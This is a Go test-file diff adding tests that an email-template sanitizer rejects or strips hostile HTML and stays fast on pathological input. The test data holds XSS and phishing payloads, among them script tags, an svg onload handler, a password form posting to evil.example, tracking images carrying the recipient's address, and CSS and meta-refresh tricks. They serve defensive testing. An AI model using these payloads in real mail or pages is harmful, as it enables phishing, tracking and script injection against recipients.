@@ -8,6 +8,7 @@ import (
 	"slices"
 	"strings"
 	"testing"
+	"time"
 
 	"golang.org/x/net/html"
 	"pgregory.net/rapid"
@@ -115,6 +116,80 @@ func TestNamesStayNames(t *testing.T) {
 	} {
 		if got := message.Name(name); got != want {
 			t.Errorf("%q becomes %q, want %q", name, got, want)
+		}
+	}
+}
+
+// An account's own HTML asks for a password, runs a script, or loads something that tells who reads the mail.
+func TestAttackTheHTMLOfOwnWording(t *testing.T) {
+	const link = `<a href="{{.Link}}">x</a>`
+	for page, want := range map[string]string{
+		link + `<script>alert(1)</script>`:                                           "line 1: <script> may not stand in a mail",
+		link + "\n<form action=https://evil.example><input name=password></form>":    "line 2: <form> may not stand in a mail",
+		link + `<img src="https://evil.example/{{.Recipient}}">`:                     "<img> may not",
+		link + `<iframe src="https://evil.example"></iframe>`:                        "<iframe> may not",
+		link + `<style>@import url(https://evil.example)</style>`:                    "<style> may not",
+		link + `<svg onload=alert(1)>`:                                               "<svg> may not",
+		link + `<object data="https://evil.example"></object>`:                       "<object> may not",
+		`<base href="https://evil.example">` + link:                                  "<base> may not",
+		`<link rel=stylesheet href="https://evil.example">` + link:                   "<link> may not",
+		`<meta http-equiv="refresh" content="0;url=https://evil.example">` + link:    "the attribute http-equiv of <meta> may not",
+		link + "\n\n<p onclick=\"alert(1)\">":                                        "line 3: the attribute onclick of <p> may not",
+		link + `<p style="color:red;background:url(https://evil.example/x)">`:        "the attribute style of <p> may only say how the text looks",
+		link + `<p style="background-image:image-set('https://evil.example/x' 1x)">`: "the attribute style of <p>",
+		link + `<div style="position:fixed;top:0">`:                                  "the attribute style of <div>",
+		link + `<p style="col\6fr:red">`:                                             "has a \\; write &#92;",
+		link + `<a href="data:text/html,x">y</a>`:                                    "the attribute href of <a> must begin with https:, http:, mailto:, tel:",
+		link + `<table background="https://evil.example/x">`:                         "the attribute background of <table>",
+	} {
+		data := own()
+		data["en-GB.invitation.html"] = page
+		read, mistakes := message.ParseWording(data)
+		if len(mistakes) != 1 || !strings.Contains(mistakes[0].String(), want) {
+			t.Errorf("the mistakes in %s are %q, want %q", page, mistakes, want)
+		}
+		i := invitation()
+		i.Wording = read
+		if _, got := compose(t, i); strings.Contains(got.HTML, "evil") || strings.HasPrefix(got.Subject, "Come in") {
+			t.Errorf("%s is used: %s", page, got.HTML)
+		}
+		// An attribute that is not there for the samples is left out of the mail that has it.
+		data["en-GB.invitation.html"] = link + `{{if eq .Name "Mallory"}}` + page + `{{end}}`
+		i.Name = "Mallory"
+		if i.Wording, mistakes = message.ParseWording(data); len(mistakes) > 0 && !strings.Contains(mistakes[0].String(), "may not stand") &&
+			!strings.Contains(mistakes[0].String(), "has a") {
+			t.Errorf("the mistakes for Mallory in %s are %q", page, mistakes)
+		}
+		_, got := compose(t, i)
+		for _, bad := range []string{"evil", "alert", "position", "http-equiv", "data:"} {
+			if strings.Contains(got.HTML, bad) {
+				t.Errorf("Mallory gets %s", got.HTML)
+			}
+		}
+	}
+}
+
+// Cleaning is cheap, whatever the page is.
+func TestAttackHTMLThatTakesLongToClean(t *testing.T) {
+	const link = `<a href="{{.Link}}">x</a>`
+	for name, page := range map[string]string{
+		"declarations": `<p style="` + strings.Repeat("color:red;", 6_000) + `;(">`,
+		"one value":    `<p style="font:` + strings.Repeat("a ", 30_000) + `(">`,
+		"elements":     strings.Repeat("<b><i>", 10_000),
+		"attributes":   `<p ` + strings.Repeat("title=x ", 7_000) + `>`,
+		"unclosed":     strings.Repeat("<", 60_000),
+		"a script":     "<script>" + strings.Repeat("</", 30_000),
+		"backslashes":  `<p style="` + strings.Repeat(`'\`, 30_000) + `">`,
+		"entities":     strings.Repeat("&amp", 15_000),
+	} {
+		data := own()
+		data["en-GB.invitation.html"] = link + page
+		began := time.Now()
+		message.ParseWording(data)
+		if took := time.Since(began); took > 2*time.Second {
+			t.Errorf("%s takes %s", name, took)
+		} else {
+			t.Logf("%s takes %s", name, took)
 		}
 	}
 }
